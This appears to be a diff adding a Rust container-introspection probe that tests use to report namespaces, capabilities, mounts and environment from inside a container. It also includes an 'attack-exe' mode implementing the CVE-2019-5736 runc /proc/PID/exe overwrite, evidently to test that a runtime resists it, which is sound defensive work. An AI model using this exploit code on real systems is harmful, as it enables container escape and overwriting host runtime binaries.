@@ -1,1 +1,195 @@
-fn main() {}
+//! `capsa-probe`: what a process inside a container sees, as JSON on
+//! stdout. Tests assert on it from inside; the demo image is built around it.
+//!
+//! Usage:
+//!   capsa-probe                 report (the default)
+//!   capsa-probe exit N          exit with status N
+//!   capsa-probe sleep SECS      sleep, then report
+//!   capsa-probe attack-exe PID OUT
+//!                               CVE-2019-5736: hold /proc/PID/exe, then try
+//!                               to write through it once PID has exec'd;
+//!                               the outcome goes to OUT as JSON
+
+use serde_json::{json, Map, Value};
+use std::collections::BTreeMap;
+use std::io::Write;
+
+fn main() {
+    let args: Vec<String> = std::env::args().collect();
+    match args.get(1).map(String::as_str) {
+        None | Some("report") => print(&report()),
+        Some("exit") => std::process::exit(args.get(2).and_then(|a| a.parse().ok()).unwrap_or(0)),
+        Some("sleep") => {
+            let secs: f64 = args.get(2).and_then(|a| a.parse().ok()).unwrap_or(1.0);
+            std::thread::sleep(std::time::Duration::from_secs_f64(secs));
+            print(&report());
+        }
+        Some("attack-exe") => attack_exe(
+            args.get(2).map(String::as_str).unwrap_or("1"),
+            args.get(3).map(String::as_str).unwrap_or("/attack.json"),
+        ),
+        Some(other) => {
+            eprintln!("capsa-probe: unknown mode {other:?}");
+            std::process::exit(2);
+        }
+    }
+}
+
+fn print(v: &Value) {
+    let mut out = std::io::stdout().lock();
+    let _ = writeln!(out, "{v}");
+}
+
+fn read(path: &str) -> Option<String> {
+    std::fs::read_to_string(path).ok()
+}
+
+fn status_field(status: &str, key: &str) -> Option<String> {
+    status.lines().find_map(|l| {
+        l.strip_prefix(key)
+            .and_then(|r| r.strip_prefix(':'))
+            .map(|v| v.trim().to_string())
+    })
+}
+
+fn report() -> Value {
+    let status = read("/proc/self/status").unwrap_or_default();
+    let mut ns = Map::new();
+    for n in ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"] {
+        if let Ok(link) = std::fs::read_link(format!("/proc/self/ns/{n}")) {
+            let s = link.to_string_lossy().into_owned();
+            let ino = s
+                .split('[')
+                .nth(1)
+                .and_then(|x| x.trim_end_matches(']').parse::<u64>().ok());
+            ns.insert(n.into(), json!(ino));
+        }
+    }
+    let caps: Map<String, Value> = ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]
+        .iter()
+        .map(|k| (k.to_string(), json!(status_field(&status, k))))
+        .collect();
+    let mut fds = BTreeMap::new();
+    if let Ok(rd) = std::fs::read_dir("/proc/self/fd") {
+        for e in rd.flatten() {
+            let name = e.file_name().to_string_lossy().into_owned();
+            let target = std::fs::read_link(e.path())
+                .map(|t| t.to_string_lossy().into_owned())
+                .unwrap_or_default();
+            fds.insert(name, target);
+        }
+    }
+    let mounts: Vec<Value> = read("/proc/self/mountinfo")
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| {
+            let (pre, post) = l.split_once(" - ")?;
+            let pre: Vec<&str> = pre.split(' ').collect();
+            let post: Vec<&str> = post.split(' ').collect();
+            Some(json!({
+                "target": pre.get(4)?, "options": pre.get(5)?,
+                "fstype": post.first()?, "source": post.get(1)?, "super": post.get(2).copied().unwrap_or(""),
+            }))
+        })
+        .collect();
+    let uname = nix::sys::utsname::uname().ok();
+    let mut rlimits = Map::new();
+    if let Some(limits) = read("/proc/self/limits") {
+        for l in limits.lines().skip(1) {
+            // "Max open files            1024                 1024                 files"
+            let cols: Vec<&str> = l
+                .split("  ")
+                .map(str::trim)
+                .filter(|c| !c.is_empty())
+                .collect();
+            if cols.len() >= 3 {
+                rlimits.insert(cols[0].to_string(), json!([cols[1], cols[2]]));
+            }
+        }
+    }
+    json!({
+        "pid": std::process::id(),
+        "ppid": nix::unistd::getppid().as_raw(),
+        "uid": nix::unistd::getuid().as_raw(),
+        "gid": nix::unistd::getgid().as_raw(),
+        "groups": status_field(&status, "Groups"),
+        "hostname": uname.as_ref().map(|u| u.nodename().to_string_lossy().into_owned()),
+        "domainname": uname.as_ref().map(|u| u.domainname().to_string_lossy().into_owned()),
+        "cwd": std::env::current_dir().ok().map(|p| p.display().to_string()),
+        "args": std::env::args().collect::<Vec<_>>(),
+        "env": std::env::vars().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>(),
+        "namespaces": ns,
+        "uid_map": read("/proc/self/uid_map"),
+        "gid_map": read("/proc/self/gid_map"),
+        "caps": caps,
+        "no_new_privs": status_field(&status, "NoNewPrivs"),
+        "seccomp": status_field(&status, "Seccomp"),
+        "umask": status_field(&status, "Umask"),
+        "rlimits": rlimits,
+        "oom_score_adj": read("/proc/self/oom_score_adj").map(|s| s.trim().to_string()),
+        "fds": fds,
+        "mounts": mounts,
+        "cgroup": read("/proc/self/cgroup"),
+        "exe": std::fs::read_link("/proc/self/exe").ok().map(|p| p.display().to_string()),
+    })
+}
+
+/// Hold an `O_PATH` handle on `/proc/PID/exe` (a runtime process inside the
+/// container), then, once that process has exec'd something else and the
+/// file is no longer busy, try to open it for writing and write to it.
+fn attack_exe(pid: &str, out: &str) {
+    use nix::fcntl::{open, OFlag};
+    use nix::sys::stat::Mode;
+    let link = format!("/proc/{pid}/exe");
+    let target = std::fs::read_link(&link)
+        .map(|p| p.display().to_string())
+        .unwrap_or_default();
+    let handle = match open(
+        link.as_str(),
+        OFlag::O_PATH | OFlag::O_CLOEXEC,
+        Mode::empty(),
+    ) {
+        Ok(fd) => fd,
+        Err(e) => {
+            write_result(
+                out,
+                json!({ "handle": false, "target": target, "error": e.to_string() }),
+            );
+            return;
+        }
+    };
+    write_result(
+        out,
+        json!({ "handle": true, "target": target, "phase": "holding" }),
+    );
+    let reopen = format!("/proc/self/fd/{handle}");
+    let mut last = String::new();
+    for _ in 0..1000 {
+        match std::fs::OpenOptions::new().write(true).open(&reopen) {
+            Ok(mut f) => match f.write_all(b"PWNED") {
+                Ok(()) => {
+                    write_result(
+                        out,
+                        json!({ "handle": true, "target": target, "phase": "done", "opened": true, "wrote": true }),
+                    );
+                    return;
+                }
+                Err(e) => last = format!("write: {e}"),
+            },
+            Err(e) => last = format!("open: {e}"),
+        }
+        // ETXTBSY while the runtime still runs it: wait for its exec.
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
+    write_result(
+        out,
+        json!({ "handle": true, "target": target, "phase": "done", "wrote": false, "last_error": last }),
+    );
+}
+
+fn write_result(out: &str, v: Value) {
+    let tmp = format!("{out}.tmp");
+    if std::fs::write(&tmp, v.to_string()).is_ok() {
+        let _ = std::fs::rename(&tmp, out);
+    }
+}
